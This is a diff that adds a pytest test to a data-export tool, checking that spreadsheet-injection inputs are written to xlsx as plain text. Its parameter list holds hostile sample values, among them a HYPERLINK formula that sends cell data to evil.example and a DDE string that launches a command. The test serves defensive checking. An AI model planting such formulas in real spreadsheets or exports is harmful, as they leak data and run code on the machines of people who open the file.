@@ -382,6 +382,37 @@ def test_warnings_holding_brackets_are_printed_as_they_are(tmp_path: Path, capsy
     assert f"warning: {folder / 'contacts.csv'}: columns not in the data contract were left out: [red]agent, [/]" in out
 
 
+# --- spreadsheet export ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "value",
+    ['=HYPERLINK("http://evil.example/?leak="&A1;"open")', "=1+1", "+cmd|' /C calc'!A0", "http://evil.example/x"],
+    ids=["hyperlink", "sum", "dde", "url"],
+)
+def test_excel_export_writes_text_from_the_inputs_as_text(tmp_path: Path, capsys, value: str) -> None:
+    quoted = '"' + value.replace('"', '""') + '"'
+    folder = write_engagement(
+        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV + f"c4,northcall,{quoted},2026-09-01 10:00:00,true,1,1,,\n"}
+    )
+    assert main(["tables", "--engagement", str(folder), "--out", str(tmp_path / "out"), "--format", "xlsx"]) == 0
+    capsys.readouterr()
+    sheet = openpyxl.load_workbook(tmp_path / "out" / "tables.xlsx")["rejected"]
+    header = [c.value for c in sheet[1]]
+    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+    assert sheet.max_row == 2 and row["row"].value == 5 and row["column"].value == "channel"
+    assert (row["value"].value, row["value"].data_type, row["value"].hyperlink) == (value, "s", None)
+    assert row["reason"].data_type == "s" and row["reason"].value.startswith(f"unknown channel '{value}'")
+    formulas = [
+        c.coordinate
+        for ws in openpyxl.load_workbook(tmp_path / "out" / "tables.xlsx")
+        for r in ws.iter_rows()
+        for c in r
+        if c.data_type == "f" or c.hyperlink is not None
+    ]
+    assert formulas == []
+
+
 # --- headers -------------------------------------------------------------------------------------
 
 
